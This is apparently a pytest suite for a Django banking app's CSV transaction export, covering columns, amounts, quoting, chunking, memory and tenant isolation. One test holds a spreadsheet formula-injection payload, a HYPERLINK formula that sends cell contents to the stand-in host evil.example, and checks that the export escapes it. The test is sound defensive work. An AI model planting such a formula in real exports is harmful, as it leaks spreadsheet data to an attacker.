"""The CSV export of transactions, parsed with the standard library's reader."""

import csv
import gc
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from itertools import islice
from uuid import UUID, uuid4

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import User
from banking.models import Account, Item, Transaction
from banking.tests.factories import build_transaction, make_account, make_transaction, make_transactions
from banking.transactions import csv_export
from compliance.isolation import current_tenant

pytestmark = pytest.mark.django_db

# More than any file here has, so that an endless export fails its test.
MAX_LINES = 5000


@pytest.fixture
def account(item: Item) -> Account:
    return make_account(item)


def export_rows(user: User) -> list[list[str]]:
    rows = Transaction.objects.for_user(user).current().select_related("account")
    return list(islice(csv.reader(csv_export.csv_lines(owner_id=user.pk, rows=rows)), MAX_LINES))


def test_it_writes_all_columns_of_a_row(alice: User, account: Account) -> None:
    row = make_transaction(
        account,
        "-4.33",
        merchant_name="Starbucks",
        day=date(2026, 11, 9),
        date=date(2026, 11, 10),
        category="FOOD_AND_DRINK",
        user_category="TRAVEL",
        note="Flughafen, Tor „B“",
        original_description="=STARBUCKS 0123 BERLIN",
        authorized_at=datetime(2026, 11, 9, 7, 30, tzinfo=UTC),
        counterparties=[
            {"name": "Starbucks", "type": "merchant", "website": "starbucks.example"},
            {"name": "Square", "type": "payment_terminal"},
        ],
    )
    head, body = export_rows(alice)
    assert dict(zip(head, body, strict=True)) == {
        "Date": "2026-11-09",
        "Posted": "2026-11-10",
        "Description": "Starbucks",
        "Category": "Travel",
        "Account": "Checking ••0000",
        "Amount": "-4.33",
        "Currency": "USD",
        "Status": "posted",
        "Note": "Flughafen, Tor „B“",
        "Tags": "",
        "In totals": "yes",
        "Original description": "'=STARBUCKS 0123 BERLIN",
        "Time": "2026-11-09T07:30:00+00:00",
        "Website": "starbucks.example",
        "Companies": "Starbucks, Square",
        "ID": str(row.pk),
    }


def test_it_writes_no_posting_date_for_a_pending_row(alice: User, account: Account) -> None:
    make_transaction(account, "-4.33", pending=True)
    head, body = export_rows(alice)
    cells = dict(zip(head, body, strict=True))
    assert (cells["Posted"], cells["Status"]) == ("", "pending")


@pytest.mark.parametrize(
    ("amount", "text"),
    [
        ("-4.33", "-4.33"),
        ("100", "100"),
        ("1200000", "1200000"),
        ("0", "0"),
        ("0.1", "0.1"),
        ("-0.0000000001", "-0.0000000001"),
        ("-115.57268", "-115.57268"),
        ("90071992547409.93", "90071992547409.93"),
        ("-123456789012345678.0123456789", "-123456789012345678.0123456789"),
    ],
)
def test_it_writes_amounts_exactly(alice: User, account: Account, amount: str, text: str) -> None:
    make_transaction(account, amount)
    head, body = export_rows(alice)
    assert body[head.index("Amount")] == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_it_escapes_formulas(alice: User, item: Item, start: str) -> None:
    attack = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
    account = make_account(item, name=attack, mask="", currency=f"{start}1+1")
    make_transaction(account, "-1", merchant_name=attack, category=attack, note=attack)
    head, body = export_rows(alice)
    cells = dict(zip(head, body, strict=True))
    # Categories are shown as labels, in another case.
    assert cells["Category"].startswith(f"'{start}")
    assert [cells[name] for name in ("Description", "Account", "Note", "Currency", "Amount")] == [
        f"'{attack}",
        f"'{attack}",
        f"'{attack}",
        f"'{start}1+1",
        "-1",
    ]


def test_it_escapes_formulas_behind_the_separators_of_other_languages(alice: User, account: Account) -> None:
    make_transaction(account, "-1", note="Shop;=1+1;")
    head, body = export_rows(alice)
    assert body[head.index("Note")] == "Shop;'=1+1;"


def test_it_quotes_separators_and_line_breaks(alice: User, account: Account) -> None:
    note = 'a,"b"\r\nc;d\te'
    make_transaction(account, "-1", note=note)
    head, *bodies = export_rows(alice)
    assert [dict(zip(head, body, strict=True))["Note"] for body in bodies] == [note]


def test_it_writes_only_the_header_without_rows(alice: User) -> None:
    assert export_rows(alice) == [list(csv_export.COLUMNS)]


def test_it_writes_every_row_once_and_newest_first_across_chunks(alice: User, account: Account) -> None:
    first = date(2026, 1, 1)
    # Seven days for 2,001 rows, so that every chunk ends in the middle of a day.
    rows = [build_transaction(account, f"-{n + 1}", id=uuid4(), day=first + timedelta(days=n % 7)) for n in range(2001)]
    make_transactions(account, rows)
    _, *bodies = export_rows(alice)
    expected = sorted(rows, key=lambda row: (row.day, row.id.int), reverse=True)
    assert [UUID(body[-1]) for body in bodies] == [row.id for row in expected]
    assert sum(Decimal(body[5]) for body in bodies) == -sum(range(1, 2002))


def test_it_keeps_at_most_two_chunks_in_memory(alice: User, account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_export, "CHUNK_SIZE", 50)
    make_transactions(account, [build_transaction(account, "-1") for _ in range(500)])
    rows = Transaction.objects.for_user(alice).select_related("account")
    gc.collect()
    # From here on, the garbage collector lists only new objects. Listing all for each line would take a minute.
    gc.freeze()
    try:
        lines = csv_export.csv_lines(owner_id=alice.pk, rows=rows)
        max_count = max(sum(type(object_) is Transaction for object_ in gc.get_objects()) for _ in lines)
    finally:
        gc.unfreeze()
    # The previous and the current chunk, each with one row more, which shows whether another page follows.
    assert max_count <= 2 * (50 + 1)


def test_it_queries_once_per_chunk(alice: User, account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_export, "CHUNK_SIZE", 10)
    make_transactions(account, [build_transaction(account, "-1") for _ in range(30)])
    with CaptureQueriesContext(connection) as queries:
        export_rows(alice)
    assert sum(query["sql"].startswith("SELECT") for query in queries) == 2 * 3


@pytest.mark.django_db(transaction=True)
def test_it_keeps_no_transaction_and_no_tenant_open_between_lines(alice: User, account: Account) -> None:
    make_transaction(account, "-1", removed_at=datetime(2026, 11, 20, tzinfo=UTC))
    make_transactions(account, [build_transaction(account, "-1") for _ in range(3)])
    rows = Transaction.objects.for_user(alice).select_related("account")
    states = [
        (connection.in_atomic_block, current_tenant()) for _ in csv_export.csv_lines(owner_id=alice.pk, rows=rows)
    ]
    assert states
    assert set(states) == {(False, None)}


def test_it_writes_no_row_of_another_user(mallory: User, account: Account) -> None:
    make_transaction(account, "-1")
    assert export_rows(mallory) == [list(csv_export.COLUMNS)]
